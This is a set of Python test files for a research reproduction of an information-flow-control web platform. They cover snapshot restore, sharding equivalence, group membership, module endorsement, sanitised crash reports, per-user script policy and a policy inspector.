        provider, report = restore_provider(snapshot,
                                            app_catalog=STANDARD_CATALOG)
        assert provider.usernames() == ["bob"]

    def test_unknown_account_tag_id_fails_loudly(self, snapshot):
        snapshot["accounts"][0]["data_tag_id"] = 9999
        with pytest.raises(TagError):
            restore_provider(snapshot, app_catalog=STANDARD_CATALOG)

    def test_unknown_grant_tag_id_fails_loudly(self, snapshot):
        snapshot["grants"][0]["tag_id"] = 9999
        with pytest.raises(TagError):
            restore_provider(snapshot, app_catalog=STANDARD_CATALOG)

    def test_missing_registry_key_fails(self, snapshot):
        del snapshot["registry"]
        with pytest.raises(KeyError):
            restore_provider(snapshot, app_catalog=STANDARD_CATALOG)

    def test_truncated_fs_snapshot_fails(self, snapshot):
        del snapshot["fs"]["root"]
        with pytest.raises(KeyError):
            restore_provider(snapshot, app_catalog=STANDARD_CATALOG)

    def test_tampered_labels_do_not_weaken_protection(self, snapshot):
        """An attacker who can edit the snapshot already owns the cold
        store; still, *removing* a label from a file yields a public
        file, never a crash or a privilege escalation beyond the data
        touched."""
        # strip the secrecy label off bob's file in the snapshot
        users_dir = snapshot["fs"]["root"]["entries"]["users"]
        bob_home = users_dir["entries"]["bob"]
        f = bob_home["entries"]["f"]
        f["slabel"]["tags"] = []
        bob_home["slabel"]["tags"] = []
        provider, __ = restore_provider(snapshot,
                                        app_catalog=STANDARD_CATALOG)
        snoop = provider.kernel.spawn_trusted("snoop")
        from repro.fs import FsView
        # the tampered file is now public — the attacker burned exactly
        # the asset they rewrote — but amy's/others' labels are intact
        assert FsView(provider.fs, snoop).read("/users/bob/f") == "x"

    def test_snapshot_of_restore_is_stable(self, snapshot):
        """restore → snapshot → restore converges (no drift)."""
        p1, __ = restore_provider(snapshot, app_catalog=STANDARD_CATALOG)
        snap2 = json.loads(json.dumps(snapshot_provider(p1)))
        p2, __ = restore_provider(snap2, app_catalog=STANDARD_CATALOG)
        assert p2.usernames() == p1.usernames()
        assert p2.read_user_data("bob", "f") == "x"
