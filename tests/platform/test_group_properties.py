"""Property tests: group roster churn never out-runs enforcement.

Random add/remove sequences on a group roster; at every step, the
declassification oracle must approve exactly the current members for
the group's tag — no stale approvals after removal, no missing ones
after (re-)addition.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro import W5System

CANDIDATES = ["amy", "carl", "dot"]


def build():
    w5 = W5System()
    w5.add_user("bob", apps=["club-board"])
    for u in CANDIDATES:
        w5.add_user(u, apps=["club-board"])
    w5.provider.groups.create("bob", "g")
    return w5


churn = st.lists(
    st.tuples(st.sampled_from(["add", "remove"]),
              st.sampled_from(CANDIDATES),
              st.booleans()),   # writer flag for adds
    max_size=25)


class TestRosterChurn:
    @settings(max_examples=50, deadline=None)
    @given(churn)
    def test_oracle_tracks_roster_exactly(self, operations):
        w5 = build()
        svc = w5.provider.groups
        group = svc.get("g")
        for op, user, writer in operations:
            try:
                if op == "add":
                    svc.add_member("bob", "g", user, writer=writer)
                else:
                    svc.remove_member("bob", "g", user)
            except Exception:
                continue
            # invariant after every mutation
            for candidate in CANDIDATES + ["bob"]:
                expected = candidate in group.members
                actual = w5.provider.declass.may_release(
                    group.data_tag, candidate)
                assert actual == expected, (op, user, candidate)

    @settings(max_examples=30, deadline=None)
    @given(churn)
    def test_launch_write_caps_track_writers(self, operations):
        w5 = build()
        svc = w5.provider.groups
        group = svc.get("g")
        app = w5.provider.apps.get("club-board")
        for op, user, writer in operations:
            try:
                if op == "add":
                    svc.add_member("bob", "g", user, writer=writer)
                else:
                    svc.remove_member("bob", "g", user)
            except Exception:
                continue
            for candidate in CANDIDATES:
                caps = w5.provider.launch_caps(app, viewer=candidate)
                has_write = caps.can_add(group.write_tag)
                assert has_write == group.is_writer(candidate), (
                    op, user, candidate)
