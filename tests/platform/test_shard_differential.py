"""Differential proofs for the sharded request plane (M13).

Four claims, in decreasing order of strictness:

1. **Concurrency changes nothing.**  At every shard count, the thread
   engine (one worker per shard, concurrent) produces responses and a
   merged ``(shard, seq)`` audit stream **byte-identical** to the
   serial engine (in-line, the deterministic schedule) on the same
   operation history.  Shards share no mutable state, so this is the
   structural linearizability claim, and hypothesis shrinks any
   scheduling-dependent divergence to a minimal witness.

2. **Sharding off is the classic plane.**  A 1-shard
   ``ShardedProvider`` is byte-identical — responses *and* audit
   stream, pids included — to a plain ``ProviderConfig.fast()``
   provider on the same history.

3. **Shard-local execution is the baseline, relabeled.**  At N > 1,
   a workload where every request touches its own user's data
   produces byte-identical responses to the unsharded baseline, and
   each request's audit slice matches the baseline's slice exactly
   once shard-local identifiers (pids, tag ids, row ids) are
   normalized — those are minted per shard, so their absolute values
   are the *only* legitimate difference.

4. **Each shard's journal replays.**  After a random history, every
   shard's write-ahead journal (the M10 journal is the per-shard log)
   replays over its base checkpoint to a canonical snapshot
   byte-identical to the live shard's.
"""

import copy
import json
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.apps import STANDARD_CATALOG, install_standard_apps
from repro.net import ExternalClient
from repro.platform import (Provider, ProviderConfig, ShardedProvider,
                            recover_provider, snapshot_provider)

USERS = ("alice", "bob", "carol")

ALL_FRIENDS = {u: [v for v in USERS if v != u] for u in USERS}


def build_sharded(n_shards, engine=None):
    sp = ShardedProvider(name="prod", n_shards=n_shards, engine=engine)
    install_standard_apps(sp)
    return sp, _populate(sp)


def build_unsharded():
    p = Provider(name="prod", config=ProviderConfig.fast())
    install_standard_apps(p)
    return p, _populate(p)


def _populate(provider_like):
    clients = {}
    for u in USERS:
        c = ExternalClient(u, provider_like.transport())
        c.post("/signup", params={"username": u, "password": "pw"})
        c.login("pw")
        c.post("/policy/enable", params={"app": "blog"})
        provider_like.grant_builtin_declassifier(
            u, "friends-only", {"friends": ALL_FRIENDS[u]})
        clients[u] = c
    return clients


def apply_op(provider_like, clients, op) -> tuple:
    """Run one request/mutation; return the exact outcome."""
    kind = op[0]
    if kind == "post":
        _, ui, i = op
        user = USERS[ui % len(USERS)]
        r = clients[user].get("/app/blog/post", title=f"t{i}", body=f"b{i}")
    elif kind == "read":
        _, ui, vi, i = op
        author = USERS[ui % len(USERS)]
        viewer = USERS[vi % len(USERS)]
        r = clients[viewer].get("/app/blog/read", author=author,
                                title=f"t{i}")
    elif kind == "list":
        _, ui, vi = op
        author = USERS[ui % len(USERS)]
        viewer = USERS[vi % len(USERS)]
        r = clients[viewer].get("/app/blog/list", author=author)
    elif kind == "missing":
        _, ui = op
        r = clients[USERS[ui % len(USERS)]].get("/app/nonesuch/run")
    elif kind == "toggle":
        _, ui, on = op
        user = USERS[ui % len(USERS)]
        path = "/policy/enable" if on else "/policy/disable"
        r = clients[user].post(path, params={"app": "blog"})
    elif kind == "unfriend":
        _, ui, vi = op
        a, b = USERS[ui % len(USERS)], USERS[vi % len(USERS)]
        if a == b:
            return ("skip",)
        provider_like.update_declassifier_config(
            a, "friends-only", friends=set(ALL_FRIENDS[a]) - {b})
        return ("unfriended",)
    elif kind == "refriend":
        _, ui = op
        a = USERS[ui % len(USERS)]
        provider_like.update_declassifier_config(
            a, "friends-only", friends=set(ALL_FRIENDS[a]))
        return ("refriended",)
    else:
        return ("noop",)
    return (r.status, r.body)


def ops(local_only=False):
    """Random histories; ``local_only`` restricts reads to the author's
    own data (the claim-3 workload: no cross-user flows, so responses
    are topology-independent)."""
    post = st.tuples(st.just("post"), st.integers(0, 2), st.integers(0, 3))
    if local_only:
        read = st.tuples(st.just("read"), st.shared(st.integers(0, 2),
                                                    key="u"),
                         st.shared(st.integers(0, 2), key="u"),
                         st.integers(0, 3))
        listing = st.tuples(st.just("list"), st.shared(st.integers(0, 2),
                                                       key="u2"),
                            st.shared(st.integers(0, 2), key="u2"))
        pool = [post, read, listing,
                st.tuples(st.just("missing"), st.integers(0, 2))]
    else:
        read = st.tuples(st.just("read"), st.integers(0, 2),
                         st.integers(0, 2), st.integers(0, 3))
        listing = st.tuples(st.just("list"), st.integers(0, 2),
                            st.integers(0, 2))
        pool = [post, read, listing,
                st.tuples(st.just("missing"), st.integers(0, 2)),
                st.tuples(st.just("toggle"), st.integers(0, 2),
                          st.booleans()),
                st.tuples(st.just("unfriend"), st.integers(0, 2),
                          st.integers(0, 2)),
                st.tuples(st.just("refriend"), st.integers(0, 2))]
    return st.lists(st.one_of(*pool), max_size=20)


def audit_bytes(provider_like) -> list:
    """The (merged) audit stream, byte-for-byte (sans monotonic seq)."""
    return [(e.category, e.allowed, e.subject, e.detail)
            for e in provider_like.kernel.audit]


#: Shard-locally minted identifiers: process ids, tag ids, and row
#: ids.  These are the only values allowed to differ between a shard
#: and the unsharded baseline on the same shard-local request.
_PID_RE = re.compile(r"pid=\d+")
_TAG_ID_RE = re.compile(r"(?<=[{,])\d+:")
_ROW_ID_RE = re.compile(r"#\d+\b")


def normalized(events) -> list:
    out = []
    for e in events:
        if e.category == "db_query" and e.detail.startswith("create table"):
            # first-touch DDL happens once per (shard, table) rather
            # than once per table — the one event whose *presence*, not
            # just its ids, is topology-dependent
            continue
        detail = _PID_RE.sub("pid=?", e.detail)
        detail = _TAG_ID_RE.sub("?:", detail)
        if e.category == "db_query":
            # row ids come from a per-table counter, minted per shard
            detail = _ROW_ID_RE.sub("#?", detail)
        out.append((e.category, e.allowed, e.subject, detail))
    return out


class TestConcurrencyIsInvisible:
    """Claim 1: thread engine == serial engine, byte for byte."""

    @settings(max_examples=10, deadline=None)
    @given(ops())
    def test_threaded_matches_serial_at_every_shard_count(self, seed_ops):
        for n in (1, 2, 3):
            serial, c_serial = build_sharded(n, engine="serial")
            threaded, c_threaded = build_sharded(n, engine="thread")
            try:
                for op in seed_ops:
                    out_s = apply_op(serial, c_serial, op)
                    out_t = apply_op(threaded, c_threaded, op)
                    assert out_s == out_t, \
                        f"response divergence at {n} shards on {op}"
                assert audit_bytes(serial) == audit_bytes(threaded), \
                    f"merged audit divergence at {n} shards"
            finally:
                threaded.shutdown()

    @settings(max_examples=8, deadline=None)
    @given(ops())
    def test_batched_fan_out_matches_sequential(self, seed_ops):
        """A burst through handle_batch (concurrent across shards) ==
        the same burst request-by-request, responses and audit."""
        from repro.net.http import HttpRequest
        batched, c_batched = build_sharded(3, engine="thread")
        sequential, c_sequential = build_sharded(3, engine="serial")
        try:
            for op in seed_ops:
                if op[0] in ("post", "toggle", "unfriend", "refriend"):
                    apply_op(batched, c_batched, op)
                    apply_op(sequential, c_sequential, op)

            def burst(clients):
                return [HttpRequest(method="GET", path="/app/blog/list",
                                    params={"author": u},
                                    cookies=dict(clients[u].cookies))
                        for u in USERS for _ in range(2)]

            responses_b = batched.handle_batch(burst(c_batched))
            responses_s = [sequential.handle_request(r)
                           for r in burst(c_sequential)]
            assert [(r.status, r.body) for r in responses_b] \
                == [(r.status, r.body) for r in responses_s]
            assert audit_bytes(batched) == audit_bytes(sequential)
        finally:
            batched.shutdown()


class TestShardingOffIsTheClassicPlane:
    """Claim 2: 1-shard ShardedProvider == plain fast() Provider."""

    @settings(max_examples=12, deadline=None)
    @given(ops())
    def test_one_shard_is_byte_identical_to_unsharded(self, seed_ops):
        sharded, c_sharded = build_sharded(1)
        plain, c_plain = build_unsharded()
        assert audit_bytes(sharded) == audit_bytes(plain)
        for op in seed_ops:
            out_s = apply_op(sharded, c_sharded, op)
            out_p = apply_op(plain, c_plain, op)
            assert out_s == out_p, f"response divergence on {op}"
        # strict equality: same categories, verdicts, subjects and
        # detail strings — pids and tag ids included
        assert audit_bytes(sharded) == audit_bytes(plain)


class TestShardLocalIsTheBaselineRelabeled:
    """Claim 3: at N > 1, shard-local requests reproduce the baseline's
    responses exactly and its audit slices modulo shard-minted ids."""

    @settings(max_examples=10, deadline=None)
    @given(ops(local_only=True))
    def test_responses_and_audit_slices_match_baseline(self, seed_ops):
        sharded, c_sharded = build_sharded(3, engine="serial")
        plain, c_plain = build_unsharded()
        for op in seed_ops:
            shard_before = [len(s.kernel.audit) for s in sharded.shards]
            plain_before = len(plain.kernel.audit)
            out_s = apply_op(sharded, c_sharded, op)
            out_p = apply_op(plain, c_plain, op)
            assert out_s == out_p, f"response divergence on {op}"
            slice_s = []
            for k, shard in enumerate(sharded.shards):
                slice_s.extend(list(shard.kernel.audit)[shard_before[k]:])
            slice_p = list(plain.kernel.audit)[plain_before:]
            assert normalized(slice_s) == normalized(slice_p), \
                f"audit slice divergence on {op}"


def canon(state) -> str:
    """Canonical snapshot bytes (same helper as the M10 replay suite)."""
    return json.dumps(
        state, sort_keys=True, separators=(",", ":"),
        default=lambda o: {"__bytes__": o.hex()}
        if isinstance(o, (bytes, bytearray)) else repr(o))


class TestPerShardJournalReplay:
    """Claim 4: every shard recovers byte-identically from its own
    write-ahead journal."""

    @settings(max_examples=8, deadline=None)
    @given(ops())
    def test_every_shard_replays_to_live_state(self, seed_ops):
        sharded, clients = build_sharded(3, engine="serial")
        for op in seed_ops:
            apply_op(sharded, clients, op)
        for shard in sharded.shards:
            base = copy.deepcopy(shard._durability.base)
            journal = bytes(shard._durability.journal.raw_bytes())
            recovered, report = recover_provider(
                base, journal, STANDARD_CATALOG, config=shard.config)
            assert report["truncated_bytes"] == 0
            assert canon(snapshot_provider(recovered)) \
                == canon(snapshot_provider(shard))

    def test_recovered_shard_serves_its_users(self):
        sharded, clients = build_sharded(3, engine="serial")
        assert clients["alice"].get("/app/blog/post", title="t0",
                                    body="b0").ok
        home = sharded.shards[sharded.map.shard_of_user("alice")]
        base = copy.deepcopy(home._durability.base)
        journal = bytes(home._durability.journal.raw_bytes())
        recovered, __ = recover_provider(base, journal, STANDARD_CATALOG,
                                         config=home.config)
        from repro.net.http import HttpRequest
        from repro.platform import set_password
        set_password(recovered, "alice", "pw")
        session = recovered.sessions.login("alice", "pw").token
        r = recovered.handle_request(HttpRequest(
            method="GET", path="/app/blog/read",
            params={"title": "t0"}, cookies={"w5_session": session}))
        assert r.status == 200 and r.body["title"] == "t0"
