"""Unit tests for integrity protection (endorsements) and the debug
service (sanitized crash reports)."""

import pytest

from repro.net import ExternalClient
from repro.platform import (AppModule, DebugService, EndorsementService,
                            NoSuchApp, Provider, Registry)


def lib_handler(ctx):
    return "lib"


def app_handler(ctx):
    return "app"


class TestEndorsementService:
    @pytest.fixture()
    def world(self):
        reg = Registry()
        reg.register(AppModule("lib", "d", lib_handler, kind="module"))
        reg.register(AppModule("extra", "d", lib_handler, kind="module"))
        reg.register(AppModule("app", "d", app_handler, imports=("lib",)))
        return reg, EndorsementService()

    def test_endorse_and_check(self, world):
        reg, svc = world
        svc.endorse("app")
        svc.endorse("lib")
        ok, missing = svc.check_app(reg, reg.get("app"))
        assert ok and missing == []

    def test_unendorsed_import_fails(self, world):
        reg, svc = world
        svc.endorse("app")
        ok, missing = svc.check_app(reg, reg.get("app"))
        assert not ok and missing == ["lib"]

    def test_preferences_widen_closure(self, world):
        reg, svc = world
        svc.endorse("app")
        svc.endorse("lib")
        ok, missing = svc.check_app(reg, reg.get("app"),
                                    preferences={"slot": "extra"})
        assert not ok and missing == ["extra"]

    def test_retract(self, world):
        reg, svc = world
        svc.endorse("lib")
        svc.retract("lib")
        assert not svc.is_endorsed("lib")

    def test_transitive_closure(self):
        reg = Registry()
        reg.register(AppModule("c", "d", lib_handler, kind="module"))
        reg.register(AppModule("b", "d", lib_handler, kind="module",
                               imports=("c",)))
        reg.register(AppModule("a", "d", app_handler, imports=("b",)))
        svc = EndorsementService()
        assert svc.component_closure(reg, reg.get("a")) == {"a", "b", "c"}

    def test_history_records_endorser(self, world):
        __, svc = world
        svc.endorse("app", endorser="w5-weekly")
        assert ("app", "w5-weekly") in svc.history


class TestIntegrityPolicyOnProvider:
    @pytest.fixture()
    def provider(self):
        p = Provider()
        p.register_app(AppModule("lib", "d", lib_handler, kind="module"))
        p.register_app(AppModule("app", "d", app_handler,
                                 imports=("lib",)))
        p.signup("bob", "pw")
        p.enable_app("bob", "app")
        return p

    def _client(self, provider):
        c = ExternalClient("bob", provider.transport())
        c.login("pw")
        return c

    def test_default_policy_launches_anything(self, provider):
        c = self._client(provider)
        assert c.get("/app/app/go").ok

    def test_strict_policy_blocks_unendorsed(self, provider):
        provider.set_integrity_policy("bob", True)
        c = self._client(provider)
        r = c.get("/app/app/go")
        assert r.status == 403
        assert provider.kernel.audit.count(category="spawn",
                                           allowed=False) >= 1

    def test_strict_policy_allows_fully_endorsed(self, provider):
        provider.set_integrity_policy("bob", True)
        provider.endorse_module("app")
        provider.endorse_module("lib")
        c = self._client(provider)
        assert c.get("/app/app/go").ok

    def test_partial_endorsement_insufficient(self, provider):
        provider.set_integrity_policy("bob", True)
        provider.endorse_module("app")  # lib still unendorsed
        c = self._client(provider)
        assert c.get("/app/app/go").status == 403

    def test_endorse_unknown_module(self, provider):
        with pytest.raises(NoSuchApp):
            provider.endorse_module("ghost")

    def test_policy_via_http_form(self, provider):
        c = self._client(provider)
        r = c.post("/policy/integrity", params={"require_endorsed": True})
        assert r.ok and r.body["require_endorsed"] is True
        assert c.get("/app/app/go").status == 403

    def test_policy_is_per_user(self, provider):
        provider.set_integrity_policy("bob", True)
        provider.signup("amy", "pw")
        provider.enable_app("amy", "app")
        amy = ExternalClient("amy", provider.transport())
        amy.login("pw")
        assert amy.get("/app/app/go").ok


class TestDebugService:
    def _crash(self, message):
        p = Provider()

        def buggy(ctx):
            raise KeyError(message)
        p.register_app(AppModule("buggy", "devD", buggy))
        c = ExternalClient("x", p.transport())
        c.get("/app/buggy/go")
        return p

    def test_crash_recorded_for_developer(self):
        p = self._crash("boom")
        reports = p.debug.reports_for("devD")
        assert len(reports) == 1
        assert reports[0].exception_type == "KeyError"
        assert reports[0].app_name == "buggy"

    def test_report_contains_code_location(self):
        p = self._crash("boom")
        report = p.debug.reports_for("devD")[0]
        assert "buggy" in report.location()

    def test_report_never_contains_message(self):
        """The §3.5 property: the exception message may embed user
        data, so it must not appear anywhere in the report."""
        secret = "USERS-SECRET-IN-EXCEPTION"
        p = self._crash(secret)
        report = p.debug.reports_for("devD")[0]
        assert secret not in repr(report)
        # nor in the audit log
        assert all(secret not in e.detail for e in p.kernel.audit)

    def test_developers_see_only_their_own(self):
        p = self._crash("x")
        assert p.debug.reports_for("someone-else") == []

    def test_crash_count(self):
        p = Provider()

        def buggy(ctx):
            raise ValueError()
        p.register_app(AppModule("buggy", "d", buggy))
        c = ExternalClient("x", p.transport())
        for __ in range(3):
            c.get("/app/buggy/go")
        assert p.debug.crash_count("buggy") == 3

    def test_filter_by_app(self):
        svc = DebugService()
        app1 = AppModule("a1", "dev", lambda ctx: None)
        app2 = AppModule("a2", "dev", lambda ctx: None)
        try:
            raise RuntimeError("z")
        except RuntimeError as exc:
            svc.record_crash(app1, exc)
            svc.record_crash(app2, exc)
        assert len(svc.reports_for("dev")) == 2
        assert len(svc.reports_for("dev", app_name="a1")) == 1
