"""Edge-case coverage for the AppContext surface."""

import pytest

from repro.apps import install_standard_apps
from repro.net import ExternalClient
from repro.platform import AppModule, NoSuchApp, NoSuchUser, Provider


@pytest.fixture()
def provider():
    p = Provider()
    install_standard_apps(p)
    p.signup("bob", "pw")
    p.signup("amy", "pw")
    return p


def run_with_context(provider, handler, viewer="bob", enable=()):
    """Register a one-off app and run it once for ``viewer``."""
    provider.register_app(AppModule("probe", "test", handler))
    for user in enable or (viewer,):
        provider.enable_app(user, "probe")
    client = ExternalClient(viewer, provider.transport())
    client.login("pw")
    return client.get("/app/probe/go")


class TestIdentityHelpers:
    def test_users_is_public_directory(self, provider):
        r = run_with_context(provider, lambda ctx: ctx.users())
        assert r.body == ["amy", "bob"]

    def test_tag_for_unknown_user(self, provider):
        def handler(ctx):
            try:
                ctx.tag_for("ghost")
                return "no-error"
            except NoSuchUser:
                return "raised"
        assert run_with_context(provider, handler).body == "raised"

    def test_write_tag_for(self, provider):
        def handler(ctx):
            return ctx.write_tag_for("bob").kind
        assert run_with_context(provider, handler).body == "integrity"

    def test_reading_users_tracks_taint(self, provider):
        provider.enable_app("amy", "probe") if False else None

        def handler(ctx):
            before = ctx.reading_users()
            ctx.read_user("bob")
            after = ctx.reading_users()
            return {"before": before, "after": after}
        r = run_with_context(provider, handler)
        assert r.body["before"] == []
        assert r.body["after"] == ["bob"]

    def test_read_user_is_idempotent(self, provider):
        def handler(ctx):
            ctx.read_user("bob")
            ctx.read_user("bob")  # second raise is a no-op
            return len(ctx.sys.my_secrecy())
        assert run_with_context(provider, handler).body == 1

    def test_profile_of_taints_with_owner(self, provider):
        provider.set_profile("amy", music="folk")

        def handler(ctx):
            profile = ctx.profile_of("amy")
            return {"music": profile["music"],
                    "tainted": ctx.reading_users()}
        r = run_with_context(provider, handler, viewer="bob",
                             enable=("bob", "amy"))
        # the response is amy-tainted: only viewers amy approves get it;
        # here bob has no grant from amy -> 403
        assert r.status == 403


class TestModuleDispatch:
    def test_unknown_default_module(self, provider):
        def handler(ctx):
            return ctx.call_module("slot", "no-such-module")
        r = run_with_context(provider, handler)
        assert r.status in (404, 500)

    def test_anonymous_viewer_uses_default(self, provider):
        def handler(ctx):
            return ctx.call_module("cropper", "crop-basic",
                                   "RAW", 10, 10)
        provider.register_app(AppModule("probe", "test", handler))
        anon = ExternalClient("x", provider.transport())
        r = anon.get("/app/probe/go")
        assert "center" in r.body


class TestEmailHelpers:
    def test_my_email_address(self, provider):
        r = run_with_context(provider,
                             lambda ctx: ctx.my_email_address())
        assert r.body == "bob@w5"

    def test_send_email_carries_process_taint(self, provider):
        def handler(ctx):
            ctx.read_user("bob")
            # mail to self: bob-tainted content to bob's box, fine
            ctx.send_email(ctx.my_email_address(), "s", "tainted body")
            return "sent"
        r = run_with_context(provider, handler)
        assert r.ok
        assert len(provider.email.mailbox("bob@w5").messages) == 1

    def test_set_cookie_flows_to_response(self, provider):
        def handler(ctx):
            ctx.set_cookie("theme", "dark")
            return "ok"
        r = run_with_context(provider, handler)
        assert r.set_cookies["theme"] == "dark"
