"""Tests for the provider's code-search endpoint and per-user JS policy."""

import pytest

from repro.apps import install_standard_apps
from repro.net import Browser, ExternalClient, FrameIsolationError
from repro.platform import AppModule, Provider


@pytest.fixture()
def provider():
    p = Provider()
    install_standard_apps(p)
    return p


def make_user(provider, name):
    c = ExternalClient(name, provider.transport())
    c.post("/signup", params={"username": name, "password": "pw"})
    c.login("pw")
    return c


class TestCodeSearchEndpoint:
    def test_search_returns_ranked_modules(self, provider):
        bob = make_user(provider, "bob")
        bob.post("/policy/enable", params={"app": "photo-share"})
        bob.get("/app/photo-share/upload", filename="x", data="d")
        bob.get("/app/photo-share/crop", filename="x")
        r = bob.get("/search", k=50)
        names = [m["name"] for m in r.body]
        assert "crop-basic" in names
        assert all("score" in m for m in r.body)

    def test_query_filters(self, provider):
        anon = ExternalClient("x", provider.transport())
        r = anon.get("/search", q="crop", k=50)
        assert r.body
        assert all("crop" in (m["name"] + m["description"]).lower()
                   for m in r.body)

    def test_editor_endorsement_boosts(self, provider):
        """An endorsement by a reputable editor lifts a module.  The
        editor's reputation itself derives from adoption of its past
        picks (§3.2), so it must have endorsed something users adopted.
        """
        bob = make_user(provider, "bob")
        bob.post("/policy/enable", params={"app": "blog"})
        ed = provider.editors.editor("w5-weekly")
        ed.endorse("blog")        # an adopted pick → reputation
        ed.endorse("crop-smart")  # the endorsement under test
        results = {m["name"]: m["score"]
                   for m in provider.code_search(k=100)}
        # crop-smart beats a structurally identical unendorsed module
        assert results["crop-smart"] > results["label-basic"]

    def test_k_limits_results(self, provider):
        assert len(provider.code_search(k=3)) == 3


class TestPerUserJsPolicy:
    SCRIPTY = "<b>hi</b><script>x()</script>"

    def _scripty_provider(self):
        p = Provider()

        def scripty_app(ctx):
            return self.SCRIPTY
        p.register_app(AppModule("scripty", "dev", scripty_app))
        return p

    def test_default_blocks_scripts(self):
        p = self._scripty_provider()
        bob = make_user(p, "bob")
        r = bob.get("/app/scripty/go")
        assert "script" not in r.body

    def test_user_opts_into_allow(self):
        p = self._scripty_provider()
        bob = make_user(p, "bob")
        bob.post("/policy/javascript", params={"policy": "allow"})
        r = bob.get("/app/scripty/go")
        assert "<script>" in r.body

    def test_policy_is_per_user(self):
        p = self._scripty_provider()
        bob = make_user(p, "bob")
        amy = make_user(p, "amy")
        bob.post("/policy/javascript", params={"policy": "allow"})
        assert "<script>" in bob.get("/app/scripty/go").body
        assert "script" not in amy.get("/app/scripty/go").body

    def test_bad_policy_rejected(self):
        p = self._scripty_provider()
        bob = make_user(p, "bob")
        r = bob.post("/policy/javascript", params={"policy": "yolo"})
        assert r.status == 400


class TestBrowserFrames:
    def _browser(self, provider):
        bob = make_user(provider, "bob")
        bob.post("/policy/enable", params={"app": "blog"})
        bob.get("/app/blog/post", title="t", body="b")
        return Browser(bob)

    def test_visit_mounts_frame(self, provider):
        browser = self._browser(provider)
        frame = browser.visit("blog", "/app/blog/list")
        assert frame.origin_app == "blog"
        assert frame.content["titles"] == ["t"]

    def test_same_origin_script_reads(self, provider):
        browser = self._browser(provider)
        f1 = browser.visit("blog", "/app/blog/list")
        f2 = browser.visit("blog", "/app/blog/read", title="t")
        assert browser.script_read(f1, f2)["body"] == "b"

    def test_cross_origin_script_blocked(self, provider):
        browser = self._browser(provider)
        f1 = browser.visit("blog", "/app/blog/list")
        f2 = browser.compose("evil-widget", "<tracking pixel>")
        with pytest.raises(FrameIsolationError):
            browser.script_read(f2, f1)

    def test_user_sees_all_frames(self, provider):
        browser = self._browser(provider)
        browser.visit("blog", "/app/blog/list")
        browser.compose("widget", "clock")
        origins = [o for o, __ in browser.page()]
        assert origins == ["blog", "widget"]
