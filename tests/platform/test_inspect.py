"""Tests for the policy inspector (explainability)."""

import pytest

from repro.declassify import Public, TimeEmbargo
from repro.net import ExportViolation
from repro.labels import Label
from repro.platform import PolicyInspector, Provider


@pytest.fixture()
def provider():
    p = Provider()
    for u in ("bob", "amy", "eve"):
        p.signup(u, "pw")
    p.grant_builtin_declassifier("bob", "friends-only",
                                 {"friends": ["amy"]})
    return p


@pytest.fixture()
def inspector(provider):
    return PolicyInspector(provider)


class TestExplain:
    def test_owner_rule(self, inspector):
        e = inspector.explain("bob", "bob")
        assert e.allowed and e.deciding_rule == "owner"
        assert "boilerplate" in e.summary()

    def test_friend_released_with_reason(self, inspector):
        e = inspector.explain("bob", "amy")
        assert e.allowed
        assert e.deciding_rule == "friends-only"
        assert "friends-only" in e.summary()

    def test_stranger_denied_with_refusals(self, inspector):
        e = inspector.explain("bob", "eve")
        assert not e.allowed
        assert ("friends-only", False) in e.consulted
        assert "refused" in e.summary()

    def test_no_grants_denial_message(self, inspector):
        e = inspector.explain("amy", "eve")
        assert not e.allowed
        assert e.consulted == ()
        assert "granted no declassifiers" in e.summary()

    def test_first_approving_grant_wins(self, provider, inspector):
        provider.grant_declassifier("bob", Public())
        e = inspector.explain("bob", "eve")
        assert e.allowed and e.deciding_rule == "public"
        # both grants were consulted
        assert dict(e.consulted) == {"friends-only": False,
                                     "public": True}

    def test_clock_sensitive_explanations(self, provider, inspector):
        provider.grant_declassifier("amy",
                                    TimeEmbargo({"release_at": 100.0}))
        assert not inspector.explain("amy", "eve").allowed
        provider.declass.now = 150.0
        e = inspector.explain("amy", "eve")
        assert e.allowed and e.deciding_rule == "time-embargo"


class TestMatrixAgreement:
    def test_matrix_shape(self, inspector, provider):
        matrix = inspector.matrix()
        users = provider.usernames()
        assert len(matrix) == len(users) * (len(users) + 1)

    def test_matrix_agrees_with_gateway(self, inspector, provider):
        """The inspector predicts exactly what the gateway enforces."""
        for (owner, viewer), predicted in inspector.matrix().items():
            tag = provider.account(owner).data_tag
            try:
                provider.gateway.export_check(Label([tag]), viewer)
                actual = True
            except ExportViolation:
                actual = False
            assert predicted == actual, (owner, viewer)

    def test_reachable_audience(self, inspector):
        assert inspector.reachable_audience("bob") == ["amy", "bob"]
        assert inspector.reachable_audience("eve") == ["eve"]


class TestHttpRoutes:
    def _login(self, provider, name):
        from repro.net import ExternalClient
        c = ExternalClient(name, provider.transport())
        c.login("pw")
        return c

    def test_audience_route(self, provider):
        bob = self._login(provider, "bob")
        r = bob.get("/policy/audience")
        assert r.ok and r.body["audience"] == ["amy", "bob"]

    def test_explain_route_about_own_data_only(self, provider):
        bob = self._login(provider, "bob")
        r = bob.get("/policy/explain", viewer="eve")
        assert r.ok and r.body["allowed"] is False
        assert "refused" in r.body["why"]
        # eve asking about HER data sees her policy, not bob's
        eve = self._login(provider, "eve")
        r = eve.get("/policy/explain", viewer="amy")
        assert "granted no declassifiers" in r.body["why"]

    def test_routes_require_login(self, provider):
        from repro.net import ExternalClient
        anon = ExternalClient("x", provider.transport())
        assert anon.get("/policy/audience").status == 403
