"""Invalidation coverage for the O(1) request plane.

The launch-capability index and the authority memo are only sound if
every policy-changing event drops the affected entries.  Each test
here warms a cache, flips one policy mid-session, and asserts the next
request sees the new world — plus the one *negative* case that must
never be cached: a time-dependent declassifier.
"""

import pytest

from repro.core import W5System
from repro.platform import ProviderConfig
from repro.declassify import TimeEmbargo
from repro.labels import minus, plus


@pytest.fixture
def w5():
    sys_ = W5System(name="plane")
    sys_.add_user("alice", apps=("blog",))
    sys_.add_user("bob", apps=("blog",))
    return sys_


def alice_tag(w5):
    return w5.provider.account("alice").data_tag


class TestLaunchCapIndex:
    def test_warm_lookup_hits(self, w5):
        app = w5.provider.apps.get("blog")
        first = w5.provider.launch_caps(app, "alice")
        again = w5.provider.launch_caps(app, "alice")
        assert first is again  # interned + memoized
        stats = w5.provider.capindex.stats()
        assert stats["hits"] >= 1 and stats["misses"] >= 1

    def test_fast_and_slow_paths_agree(self, w5):
        app = w5.provider.apps.get("blog")
        for viewer in ("alice", "bob", None):
            assert w5.provider.launch_caps(app, viewer) \
                == w5.provider._scan_launch_caps(app, viewer)

